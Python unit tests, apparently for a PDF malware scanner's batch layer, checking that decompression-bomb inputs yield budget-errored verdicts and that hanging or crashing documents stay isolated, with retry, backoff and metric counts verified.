            ("bomb.pdf", malformed.decompression_bomb(2 * 1024 * 1024)),
            ("benign-2.pdf", js_doc_bytes),
        ]
        scanner = BatchScanner(jobs=2, backend="thread", settings=_settings())
        report = scanner.scan_items(items)
        by_name = {item.name: item for item in report.items}
        # the bomb comes back as a structured budget-errored verdict
        bomb = by_name["bomb.pdf"]
        assert bomb.verdict is not None
        assert bomb.verdict.errored
        assert bomb.verdict.limit_kind == "stream-bytes"
        # siblings produce normal verdicts
        for name in ("benign-1.pdf", "benign-2.pdf"):
            assert by_name[name].verdict is not None
            assert not by_name[name].verdict.errored
        assert report.limit_hits == {"stream-bytes": 1}
        assert "limits" in report.summary()

    def test_bomb_verdict_matches_solo_scan(self, simple_doc_bytes):
        """The cache/dedup layer must not leak a bomb's errored verdict
        onto other documents or vice versa."""
        bomb = malformed.filter_cascade_bomb(64)
        solo = BatchScanner(
            jobs=1, backend="thread", settings=_settings()
        ).scan_items([("benign.pdf", simple_doc_bytes)])
        mixed = BatchScanner(
            jobs=2, backend="thread", settings=_settings()
        ).scan_items([("benign.pdf", simple_doc_bytes), ("bomb.pdf", bomb)])
        solo_verdict = solo.items[0].verdict
        mixed_verdict = next(
            i.verdict for i in mixed.items if i.name == "benign.pdf"
        )
        assert solo_verdict is not None and mixed_verdict is not None
        assert solo_verdict.malicious == mixed_verdict.malicious
        assert solo_verdict.malscore == mixed_verdict.malscore
        assert not mixed_verdict.errored

    def test_limits_in_cache_fingerprint(self):
        loose = PipelineSettings(seed=99)
        tight = _settings()
        assert _settings_fingerprint(loose) != _settings_fingerprint(tight)

    def test_timeout_caps_worker_deadline(self):
        scanner = BatchScanner(
            jobs=1, backend="thread", timeout=2.0,
            settings=PipelineSettings(limits=ScanLimits(deadline_seconds=None)),
        )
        assert scanner.settings.limits.deadline_seconds == 2.0

    def test_timeout_does_not_loosen_deadline(self):
        scanner = BatchScanner(
            jobs=1, backend="thread", timeout=60.0,
            settings=PipelineSettings(limits=ScanLimits(deadline_seconds=5.0)),
        )
        assert scanner.settings.limits.deadline_seconds == 5.0

    def test_limit_kind_survives_summary_roundtrip(self):
        from repro.batch.report import VerdictSummary

        scanner = BatchScanner(jobs=1, backend="thread", settings=_settings())
        report = scanner.scan_items(
            [("bomb.pdf", malformed.decompression_bomb(2 * 1024 * 1024))]
        )
        summary = report.items[0].verdict
        assert summary is not None
        again = VerdictSummary.from_dict(summary.to_dict())
        assert again.limit_kind == summary.limit_kind == "stream-bytes"
