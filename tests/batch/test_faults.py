"""Fault injection: hanging and crashing documents must stay isolated.

A stub pipeline factory hangs or raises for chosen document names; the
scanner must finish every other item, record the offenders in
``BatchReport.errors`` and count retries/timeouts in the obs metrics.
Thread backend throughout (factories do not cross process boundaries).
"""

import threading
import time
import types

import pytest

from repro.batch import (
    STATUS_ERRORED,
    STATUS_OK,
    STATUS_TIMEOUT,
    BatchScanner,
)
from repro.obs import MemorySink, Observability

pytestmark = pytest.mark.batch

#: Finite so pytest's process exit never waits long on abandoned threads.
HANG_SECONDS = 0.8
TIMEOUT = 0.15


def stub_report(name, malicious=False):
    return types.SimpleNamespace(
        verdict=types.SimpleNamespace(
            malicious=malicious,
            malscore=15.0 if malicious else 0.0,
            features=types.SimpleNamespace(fired_names=lambda: []),
        ),
        crashed=False,
        did_nothing=not malicious,
        errored=False,
        error=None,
    )


class FaultyPipeline:
    """Hangs on ``hang*``, raises on ``boom*``, else answers instantly."""

    def scan(self, data, name):
        if name.startswith("hang"):
            time.sleep(HANG_SECONDS)
        if name.startswith("boom"):
            raise RuntimeError("injected crash")
        return stub_report(name, malicious=name.startswith("mal"))


class FlakyPipeline:
    """Raises on the first attempt for each name, succeeds after."""

    attempts_lock = threading.Lock()
    attempts = {}

    def scan(self, data, name):
        with self.attempts_lock:
            n = self.attempts.get(name, 0) + 1
            self.attempts[name] = n
        if n == 1:
            raise RuntimeError("transient failure")
        return stub_report(name)


@pytest.fixture()
def obs():
    return Observability(MemorySink())


def make_scanner(obs, **kwargs):
    defaults = dict(
        jobs=4,
        backend="thread",
        timeout=TIMEOUT,
        retries=1,
        backoff=0.01,
        pipeline_factory=FaultyPipeline,
        cache=False,
        obs=obs,
    )
    defaults.update(kwargs)
    return BatchScanner(**defaults)


class TestIsolation:
    def test_hang_and_crash_do_not_kill_the_run(self, obs):
        items = [
            ("ok1.pdf", b"a"), ("hang.pdf", b"b"),
            ("boom.pdf", b"c"), ("mal.pdf", b"d"),
        ]
        report = make_scanner(obs).scan_items(items)
        by_name = {item.name: item for item in report.items}
        assert by_name["ok1.pdf"].status == STATUS_OK
        assert by_name["mal.pdf"].status == STATUS_OK
        assert by_name["mal.pdf"].malicious
        assert by_name["hang.pdf"].status == STATUS_TIMEOUT
        assert by_name["boom.pdf"].status == STATUS_ERRORED
        assert "injected crash" in by_name["boom.pdf"].error

    def test_errors_recorded_in_report(self, obs):
        report = make_scanner(obs).scan_items(
            [("hang.pdf", b"x"), ("ok.pdf", b"y")]
        )
        (failure,) = report.errors
        assert failure["name"] == "hang.pdf"
        assert failure["status"] == STATUS_TIMEOUT
        assert "no result within" in failure["error"]
        assert report.timeouts == 1

    def test_attempt_counts(self, obs):
        report = make_scanner(obs, retries=2).scan_items([("boom.pdf", b"x")])
        (item,) = report.items
        assert item.status == STATUS_ERRORED
        assert item.attempts == 3  # initial + 2 retries

    def test_zero_retries(self, obs):
        report = make_scanner(obs, retries=0).scan_items([("boom.pdf", b"x")])
        (item,) = report.items
        assert item.attempts == 1
        assert report.retries_used == 0


class TestRetries:
    def test_transient_failure_recovers(self, obs):
        FlakyPipeline.attempts = {}
        report = make_scanner(
            obs, pipeline_factory=FlakyPipeline, timeout=None
        ).scan_items([("flaky.pdf", b"x"), ("also.pdf", b"y")])
        assert all(item.status == STATUS_OK for item in report.items)
        assert all(item.attempts == 2 for item in report.items)
        assert report.retries_used == 2

    def test_backoff_is_bounded(self, obs):
        scanner = make_scanner(
            obs, retries=5, backoff=0.01, max_backoff=0.03,
            pipeline_factory=FaultyPipeline, timeout=None,
        )
        start = time.perf_counter()
        report = scanner.scan_items([("boom.pdf", b"x")])
        elapsed = time.perf_counter() - start
        (item,) = report.items
        assert item.attempts == 6
        # 5 backoffs, each capped at 0.03s (plus scheduling slack).
        assert elapsed < 2.0


class TestObsCounters:
    def test_retry_and_timeout_metrics(self, obs):
        make_scanner(obs).scan_items(
            [("hang.pdf", b"a"), ("boom.pdf", b"b"), ("ok.pdf", b"c")]
        )
        metrics = obs.metrics
        assert metrics.counter_value("batch_retries", reason="timeout") == 1
        assert metrics.counter_value("batch_retries", reason="errored") == 1
        # initial attempt + retry both time out
        assert metrics.counter_value("batch_timeouts") == 2
        assert metrics.counter_value("batch_docs", status="ok") == 1
        assert metrics.counter_value("batch_docs", status="timeout") == 1
        assert metrics.counter_value("batch_docs", status="errored") == 1

    def test_spans_per_document(self, obs):
        make_scanner(obs).scan_items([("ok1.pdf", b"a"), ("ok2.pdf", b"b")])
        sink = obs.sink
        assert len(sink.spans_named("batch.document")) == 2
        (run_span,) = sink.spans_named("batch.run")
        assert run_span["tags"]["items"] == 2
